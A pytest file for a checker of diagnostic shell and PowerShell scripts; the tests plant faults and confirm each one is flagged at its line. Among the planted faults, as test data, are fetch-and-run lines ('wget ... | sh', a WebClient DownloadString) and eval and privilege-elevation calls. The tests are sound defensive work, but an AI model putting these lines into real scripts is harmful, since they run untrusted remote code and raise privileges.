"""Each fault that an author can plant is found, at its line; what is whole is left alone."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest

from deskside.adapters.catalogue.files import FileCatalogue
from deskside.adapters.catalogue.powershell import PowerShellGrammar
from deskside.adapters.catalogue.shellcheck import Shellcheck
from deskside.domain.scripts.marks import RECORDED_TOKEN
from deskside.usecases.check_script import CheckScript
from deskside.usecases.judge_cases import JudgeCases
from fakes.scripts import MANIFEST, write_script
from source import ROOT

if TYPE_CHECKING:
    from pathlib import Path

    from deskside.domain.scripts.remark import Remark

SCRIPT = "network.name-resolution"
PLACE = "network/name-resolution"


@pytest.fixture
def scripts(tmp_path: Path) -> Path:
    """A catalogue with one script of the shipped ones, to plant faults in."""
    shutil.copytree(ROOT / "scripts" / PLACE, tmp_path / "scripts" / PLACE)
    return tmp_path / "scripts"


def checked(scripts: Path, script: str = SCRIPT) -> list[Remark]:
    check = CheckScript(FileCatalogue(scripts), [Shellcheck(None)])
    return list(check(script).remarks)


def test_a_whole_script_is_left_alone(scripts: Path) -> None:
    assert checked(scripts) == []


@pytest.mark.parametrize(
    ("file", "old", "new", "code"),
    [
        ("script.toml", "timeout_s = 30", 'timeout_s = "30"', "manifest-value-wrong"),
        ("script.toml", 'effect = "read"', 'efect = "read"', "manifest-key-unknown"),
        ("script.toml", "[tell]\n", "[tell\n", "manifest-not-toml"),
        ("script.toml", 'linux = { file = "linux.sh"', 'linux = { file = "other.sh"', "script-file-missing"),
        ("script.toml", 'default = "example.org"', 'default = "not a host"', "parameter-not-hostname"),
        ("script.toml", 'ru = "Проверить поиск имён"', 'de = "Namen"', "translation-missing"),
        ("script.toml", "[tell]\n", 'undo = "network.none"\n[tell]\n', "undo-partner-unknown"),
        ("script.toml", "но адреса для {name}", "но адреса для {host}", "translation-places-differ"),
        ("linux.sh", "name=$1\n", "name=$1\nping $1\n", "parameter-unquoted"),
        ("linux.sh", "name=$1\n", "name=$1\nnohup true &\n", "script-leaves-group"),
        ("linux.sh", "name=$1\n", "name=$1\nsudo true\n", "script-elevates"),
        ("linux.sh", "name=$1\n", 'name=$1\neval "$name"\n', "script-evaluates"),
        ("linux.sh", "name=$1\n", "name=$1\nwget -qO- http://x/ | sh\n", "script-evaluates"),
        ("linux.sh", "name=$1\n", "name=$1\nwarn no-such-message\n", "message-undeclared"),
        ("linux.sh", "name=$1\n", 'name=$1\nlist="a b"; ls $list\n', "linter-says"),
        ("linux.sh", "name=$1\n", "name=$1\nif true; then\n", "linter-says"),
        ("cases/healthy.toml", 'verdict = "ok"', 'verdict = "warning"', "case-disagrees"),
        ("cases/healthy.toml", "exit = 0", "exit = 300", "manifest-value-wrong"),
    ],
)
def test_a_planted_fault_is_found_at_its_line(
    scripts: Path, file: str, old: str, new: str, code: str
) -> None:
    place = scripts / PLACE / file
    text = place.read_text()
    assert text.count(old) == 1
    place.write_text(text.replace(old, new))
    errors = [remark for remark in checked(scripts) if remark.severity == "error"]
    found = [remark for remark in errors if remark.what.code == code]
    assert found, errors
    assert found[0].file == file
    assert abs(found[0].line - 1 - text[: text.index(old)].count("\n")) <= 3


CHANGE = MANIFEST.replace('effect = "read"', 'effect = "change"\nundo = "network.back"')
BACK = MANIFEST.replace('effect = "read"', 'effect = "change"\nundo = "network.lookup"')
SAYS_BEFORE = "fact previous '' 5\nok silent server=1\nexit 0\n"
TAKES_PREVIOUS = '\n[[parameters]]\nname = "previous"\ntype = "integer"\nlabel = { en = "B", ru = "Б" }\n'


@pytest.mark.parametrize(
    ("change", "back", "expected"),
    [
        (CHANGE, BACK, set()),
        (CHANGE, BACK.replace('\nundo = "network.lookup"', ""), {("advice", "undo-one-way")}),
        (CHANGE, BACK.replace("network.lookup", "network.other"), {("error", "undo-of-another")}),
        (CHANGE, BACK.replace("change", "read"), {("error", "undo-only-reads")}),
        (CHANGE.replace("change", "read"), BACK, {("error", "undo-only-reads")}),
        (CHANGE, "", {("error", "undo-partner-unknown")}),
        (CHANGE.replace('\nundo = "network.back"', ""), BACK, {("advice", "undo-missing")}),
        (CHANGE, BACK + TAKES_PREVIOUS, set()),
        (CHANGE, BACK + TAKES_PREVIOUS.replace("previous", "other"), {("error", "undo-value-missing")}),
    ],
)
def test_a_change_and_its_undo_belong_together(
    tmp_path: Path, change: str, back: str, expected: set[tuple[str, str]]
) -> None:
    write_script(tmp_path, "network.lookup", manifest=change, program=SAYS_BEFORE)
    if back:
        write_script(tmp_path, "network.back", manifest=back)
    said = {
        (remark.severity, remark.what.code)
        for remark in checked(tmp_path, "network.lookup")
        if remark.what.code.startswith("undo")
    }
    assert said == expected


POWERSHELL = MANIFEST.replace(
    'linux = { file = "linux.sh", shell = "sh" }', 'windows = { file = "windows.ps1", shell = "powershell" }'
)


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("Start-Process notepad.exe", "script-leaves-group"),
        ("Start-Process -Verb RunAs -Wait cmd", "script-elevates"),
        ("Invoke-Expression $name", "script-evaluates"),
        ("(New-Object Net.WebClient).DownloadString('http://x/')", "script-evaluates"),
        ("Warn no-such-message", "message-undeclared"),
        ("Restart-Service Spooler", "script-may-change"),
        ("$x = 'a'\n$y = Bounded 4 { param($z) Test-Path $x } $x", "script-bounded-outside"),
        ("$input = 'a'", "script-name-taken"),
        ("$said = netsh wlan show interfaces", "script-reads-translated"),
    ],
)
def test_powershell_has_its_own_forbidden_words(tmp_path: Path, line: str, code: str) -> None:
    program = "Ok silent server=x\n{}\nexit 0\n"
    write_script(tmp_path, "network.lookup", manifest=POWERSHELL, files={"windows.ps1": program.format(line)})
    assert code in {remark.what.code for remark in checked(tmp_path, "network.lookup")}
    (tmp_path / "network/lookup/windows.ps1").write_text(program.format("# nothing"))
    assert code not in {remark.what.code for remark in checked(tmp_path, "network.lookup")}


def test_what_is_no_powershell_is_found_at_its_line(tmp_path: Path) -> None:
    program = "Ok silent server=x\nif ($true) {\nexit 0\n"
    write_script(tmp_path, "network.lookup", manifest=POWERSHELL, files={"windows.ps1": program})
    result = CheckScript(FileCatalogue(tmp_path), [PowerShellGrammar()]).all()
    found = [
        (remark.file, remark.what.facts["rule"])
        for remark in result.scripts[0].remarks
        if remark.what.code == "linter-says"
    ]
    assert ("windows.ps1", "grammar") in found
    (tmp_path / "network/lookup/windows.ps1").write_text(program.replace("exit 0", "}\nexit 0"))
    assert "linter-says" not in {
        remark.what.code
        for remark in CheckScript(FileCatalogue(tmp_path), [PowerShellGrammar()])("network.lookup").remarks
    }


def test_without_shellcheck_that_is_said_and_all_else_is_checked(scripts: Path) -> None:
    missing = Shellcheck(None, environment={"PATH": "/nowhere"})
    missing._program = None
    result = CheckScript(FileCatalogue(scripts), [missing]).all()
    assert (result.absent, result.good) == (("shellcheck",), True)


def test_what_shellcheck_said_is_kept_until_the_text_changes(scripts: Path, tmp_path: Path) -> None:
    kept = tmp_path / "kept" / "shellcheck.json"
    program = scripts / PLACE / "linux.sh"
    program.write_text(program.read_text().replace("name=$1\n", 'name=$1\nlist="a b"; ls $list\n'))

    def said() -> list[str]:
        remarks = CheckScript(FileCatalogue(scripts), [Shellcheck(kept)])(SCRIPT).remarks
        return [str(remark.what.facts["rule"]) for remark in remarks]

    assert said() == ["SC2086"]
    first = kept.read_bytes()
    assert said() == ["SC2086"]
    assert kept.read_bytes() == first
    program.write_text(program.read_text().replace("ls $list", 'ls "$list"'))
    assert said() == []
    kept.write_text('{"x": 1}')
    assert said() == []


def test_secret_parameters_and_shared_functions_are_no_faults(tmp_path: Path) -> None:
    manifest = MANIFEST.replace('shell = "sh" }', 'shell = "sh", with = ["shared/lib.sh"] }') + (
        '\n[[parameters]]\nname = "password"\ntype = "secret"\nlabel = { en = "P", ru = "П" }\n'
    )
    write_script(
        tmp_path,
        "network.lookup",
        manifest=manifest,
        program='log_in "$password"\nok silent server=1\nexit 0\n',
    )
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "lib.sh").write_text('spare=1\nlog_in() { printf "%s" "$1" >/dev/null; }\n')
    codes = {remark.what.code for remark in checked(tmp_path, "network.lookup")}
    assert codes == {"say-missing", "case-missing"}


# ---------------------------------------------------------------- what “script test” finds


@pytest.mark.parametrize(
    ("file", "old", "new", "found"),
    [
        ("cases/healthy.out", "code=", "code=x", "finding"),
        ("cases/healthy.out", RECORDED_TOKEN, "1" * 32, "finding"),
        ("cases/healthy.toml", 'verdict = "ok"', 'verdict = "warning"', "verdict"),
        ("cases/healthy.toml", 'output = "healthy.out"', 'output = "other.out"', "script-file-missing"),
        ("cases/healthy.toml", "exit = 0", "exit = ", "manifest-not-toml"),
        ("script.toml", "[tell]\n", "[tell\n", "manifest-not-toml"),
    ],
)
def test_a_recorded_answer_with_a_planted_fault_does_not_agree(
    scripts: Path, file: str, old: str, new: str, found: str
) -> None:
    place = scripts / PLACE / file
    text = place.read_text()
    assert old in text
    place.write_text(text.replace(old, new))
    (judged,) = JudgeCases(FileCatalogue(scripts))([SCRIPT])
    said = (
        judged.why_not.code if judged.why_not else "".join(line for one in judged.cases for line in one.wrong)
    )
    assert not judged.good
    assert found in said


def test_without_a_recorded_answer_nothing_agrees(scripts: Path) -> None:
    shutil.rmtree(scripts / PLACE / "cases")
    (judged,) = JudgeCases(FileCatalogue(scripts))([SCRIPT])
    assert (judged.good, judged.cases) == (False, ())
    assert {remark.what.code for remark in checked(scripts)} == {"case-missing"}
